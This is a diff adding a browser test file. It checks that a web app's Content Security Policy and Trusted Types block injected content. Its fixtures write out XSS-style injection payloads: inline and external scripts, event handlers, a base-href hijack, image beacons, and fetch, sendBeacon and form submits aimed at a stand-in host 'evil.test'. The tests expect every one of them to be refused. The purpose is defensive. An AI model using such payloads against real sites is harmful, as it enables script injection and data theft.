@@ -1,0 +1,172 @@
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { openBrowser, openPage } from './browser.ts';
+import { runSchool, type RunningSchool } from './running-school.ts';
+import { comeAlive } from './scenes/scene.ts';
+
+// Not openForThisFile: here pages are made to break their policy.
+let browser: Browser;
+let school: RunningSchool;
+beforeAll(async () => {
+  [school, browser] = await Promise.all([runSchool(), openBrowser()]);
+});
+afterAll(async () => {
+  await browser.close();
+  await school.close();
+});
+
+const evil = 'http://evil.test';
+
+/** What has run or been refused, as the page itself saw it. */
+interface Seen {
+  ran: unknown[];
+  refused: string[];
+}
+
+/**
+ * Opens a page into whose markup somebody has brought more, as a hole in the server would.
+ * @returns also what another site was asked for
+ */
+async function openWith(markup: string): Promise<{ page: Page; seen: () => Promise<Seen>; asked: string[] }> {
+  const { page } = await openPage(browser, school.url);
+  const asked: string[] = [];
+  await page.addInitScript(() => {
+    const seen: Seen = { ran: [], refused: [] };
+    Object.assign(globalThis, { seen });
+    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      seen.refused.push(effectiveDirective),
+    );
+  });
+  await page.route('**/about', async (route) => {
+    const response = await route.fetch();
+    const body = (await response.text()).replace('<main', () => `${markup}<main`);
+    await route.fulfill({ response, body });
+  });
+  await page.route(`${evil}/**`, async (route) => {
+    asked.push(route.request().url());
+    await route.fulfill({ body: 'seen.ran.push("from elsewhere")' });
+  });
+  await page.goto('/about');
+  return { page, asked, seen: () => page.evaluate(() => (globalThis as unknown as { seen: Seen }).seen) };
+}
+
+test('markup that is not the school’s runs nothing, loads nothing and carries nothing away', async () => {
+  const { page, seen, asked } = await openWith(`
+    <script>seen.ran.push('inline')</script>
+    <img src="/favicon.ico" onload="seen.ran.push('handler')">
+    <script src="${evil}/a.js"></script>
+    <style>main { display: none }</style>
+    <p style="color: red">red</p>
+    <link rel="stylesheet" href="${evil}/a.css">
+    <img src="${evil}/a.gif?who">
+    <iframe src="${evil}/"></iframe>
+    <object data="${evil}/a.swf"></object>
+    <base href="${evil}/">
+    <a id="go" href="javascript:seen.ran.push('link')">Go</a>`);
+  await comeAlive(page);
+  await page.evaluate((address) => {
+    fetch(address).catch(() => {});
+    navigator.sendBeacon(address, 'typed');
+    document.querySelector<HTMLElement>('#go')?.click();
+  }, `${evil}/`);
+  await expect
+    .poll(async () => [...new Set((await seen()).refused)].toSorted())
+    .toEqual([
+      'base-uri',
+      'connect-src',
+      'frame-src',
+      'img-src',
+      'object-src',
+      'script-src-attr',
+      'script-src-elem',
+      'style-src-attr',
+      'style-src-elem',
+    ]);
+  await page.evaluate((address) => {
+    const form = document.createElement('form');
+    form.action = address;
+    document.body.append(form);
+    form.submit();
+  }, `${evil}/`);
+  await expect.poll(async () => (await seen()).refused).toContain('form-action');
+  expect((await seen()).ran).toEqual([]);
+  expect(asked).toEqual([]);
+  await page.context().close();
+});
+
+test('a text becomes neither markup nor script (Trusted Types)', async () => {
+  const { page } = await openPage(browser, school.url, { serviceWorkers: 'allow' });
+  await page.goto('/about');
+  await comeAlive(page);
+  const works = await page.evaluate(async () => {
+    interface Policies {
+      createPolicy(name: string, rules: object): void;
+    }
+    const { trustedTypes } = window as unknown as { trustedTypes: Policies };
+    const letAll = { createHTML: (text: string) => text };
+    const attempts: Record<string, () => unknown> = {
+      innerHTML: () => (document.body.innerHTML = '<img src=x>'),
+      insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
+      'document.write': () => document.write('<b>x</b>'),
+      srcdoc: () => (document.createElement('iframe').srcdoc = '<b>x</b>'),
+      DOMParser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
+      'script text': () => (document.createElement('script').text = '1'),
+      'script address': () => (document.createElement('script').src = '/assets/a.js'),
+      'event handler': () => document.body.setAttribute('onclick', '1'),
+      // oxlint-disable-next-line eslint/no-eval -- what must not work
+      eval: () => globalThis.eval('1'),
+      // oxlint-disable-next-line typescript/no-implied-eval -- what must not work
+      Function: () => new Function('1')(),
+      'another worker': () => navigator.serviceWorker.register('/assets/a.js'),
+      'another policy': () => trustedTypes.createPolicy('mine', letAll),
+      'the policy anew': () => trustedTypes.createPolicy('default', letAll),
+    };
+    // What a test evaluates may evaluate: what comes later may as little as the page.
+    await new Promise((resolve) => setTimeout(resolve));
+    const found: string[] = [];
+    for (const [name, attempt] of Object.entries(attempts)) {
+      try {
+        await attempt();
+        found.push(name);
+      } catch {}
+    }
+    return found;
+  });
+  expect(works).toEqual([]);
+  await page.context().close();
+});
+
+test('what a page was refused is told to the school, without saying who read what', async () => {
+  const { page } = await openWith(`<img src="${evil}/a.gif?who=asha">`);
+  const metrics = () => fetch(`${school.url}/metrics`).then((reply) => reply.text());
+  await expect.poll(metrics).toMatch(/browser_refusals_total\{directive="img-src"\} [1-9]/);
+  await page.context().close();
+});
+
+test('styles written on elements hold before the page’s script, and are the elements’ own after it', async () => {
+  const looks = (page: Page) =>
+    page.evaluate(() =>
+      [...document.querySelectorAll<HTMLElement>('[data-style]')].map((element) => {
+        const lifted = document.querySelector<HTMLStyleElement>('style[data-attributes]')?.sheet;
+        const rules = [...(lifted?.cssRules ?? [])] as CSSStyleRule[];
+        const style = rules.find(({ selectorText }) => element.matches(selectorText))?.style ?? element.style;
+        return [...style].map((name) => `${name}: ${getComputedStyle(element).getPropertyValue(name)}`);
+      }),
+    );
+  const { page } = await openPage(browser, school.url, { reducedMotion: 'reduce' });
+  const { page: bare } = await openPage(browser, school.url, {
+    reducedMotion: 'reduce',
+    javaScriptEnabled: false,
+  });
+  for (const path of ['/painting', '/Reviews']) {
+    await bare.goto(path);
+    await page.goto(path);
+    await comeAlive(page);
+    const before = await looks(bare);
+    expect(before.flat().length).toBeGreaterThan(8);
+    expect(await looks(page)).toEqual(before);
+    expect(await page.locator('style[data-attributes]').count()).toBe(0);
+  }
+  await bare.context().close();
+  await page.context().close();
+});
